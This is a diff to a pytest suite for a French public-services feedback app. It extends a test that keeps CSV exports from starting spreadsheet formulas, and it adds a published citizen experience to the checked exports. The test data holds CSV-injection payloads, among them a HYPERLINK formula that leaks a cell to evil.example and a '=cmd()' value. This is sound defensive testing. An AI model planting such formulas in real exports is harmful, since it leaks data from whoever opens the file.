@@ -12,6 +12,10 @@ import re
 import pytest
 
 from chalicelib.domain import results as domain
+from chalicelib.domain.authz import Principal
+from chalicelib.domain.commands import ExperienceModeration, ExperiencePost
+from chalicelib.domain.models import Role
+from chalicelib.services import experiences
 from tests.clock import TUESDAY_MORNING
 from tests.conftest import CASE, login, post_json
 
@@ -33,8 +37,10 @@ HOSTILE = {
     "cpam_short": "=cmd()",                       # when the name is read: see the unit test)
     "topic": HYPERLINK.replace("Cliquez", "Formation"),
     "procedure": 'Complémentaire; =1+1, "santé"\n@x',
+    "experience": '=HYPERLINK("http://evil.example/?leak="&A1,"Mon dossier CAF attend depuis un mois")',
 }
-CSV_ROUTES = {"/resultats/donnees.csv", "/territoire/rapport.csv"}
+CSV_ROUTES = {"/resultats/donnees.csv", "/territoire/rapport.csv", "/experiences/donnees.csv"}
+MODERATOR = Principal("moderateur-61", Role.MODERATOR, territory_codes=frozenset({"61"}))
 
 
 def hostile_world(client, deps, cpam: bool = False) -> None:
@@ -54,6 +60,12 @@ def hostile_world(client, deps, cpam: bool = False) -> None:
     post_json(client, agent, "/api/feedback", {"kind": "training", "topic": HOSTILE["topic"]})
     post_json(client, login(client, "agent.remalard@example.org"), "/api/cases",
               {**CASE, "point_id": "61-mairie-remalard"})
+    # An experience about the CAF, published: the open data writes its procedure, its text and
+    # the organisation's (hostile) short name.
+    posted = experiences.post_public(deps, ExperiencePost(
+        territory_code="61", organisation_id="caf", procedure=HOSTILE["procedure"], situation="precarite",
+        sentiment="negative", text=HOSTILE["experience"]), client_address="198.51.100.7")
+    experiences.moderate(deps, MODERATOR, posted.id, ExperienceModeration(decision="publish"))
     organisations = {o.id: o for o in deps.repo.list_organisations()}
     # model_copy does not validate: the names are stored exactly as a careless import could.
     deps.repo.put_directory([
@@ -71,6 +83,7 @@ def csv_responses(client, deps) -> dict[str, object]:
     paths = {f"/resultats/donnees.csv?periode={period}&niveau={level}{'&territoire=61' if level == 'point' else ''}": {}
              for level in ("point", "territoire", "reseau", "national")}
     paths[f"/territoire/rapport.csv?trimestre={period}&code=61"] = coordinator
+    paths[f"/experiences/donnees.csv?periode={period}"] = {}
     return {path: client.http.get(path, headers=headers) for path, headers in paths.items()}
 
 
@@ -109,10 +122,11 @@ def test_no_cell_of_any_csv_can_start_a_formula(client, deps):
                     continue
                 assert value[:1] not in FORMULA_STARTS and value.lstrip()[:1] not in FORMULA_STARTS, (path, value)
     # the hostile values did reach the files, as text, each whole in its own cell
-    for name in ("point", "other_point", "group", "caf_short", "topic"):
+    for name in ("point", "other_point", "group", "caf_short", "topic", "experience"):
         assert "'" + HOSTILE[name] in seen, name
     assert any(value.startswith("'" + HOSTILE["cpam_name"]) and value.endswith(HOSTILE["procedure"])
                for value in seen)
+    assert any(value.startswith('Complémentaire; =1+1, "santé"') for value in seen)   # the experience's
 
 
 def test_the_csv_files_open_in_a_french_spreadsheet(client, deps):
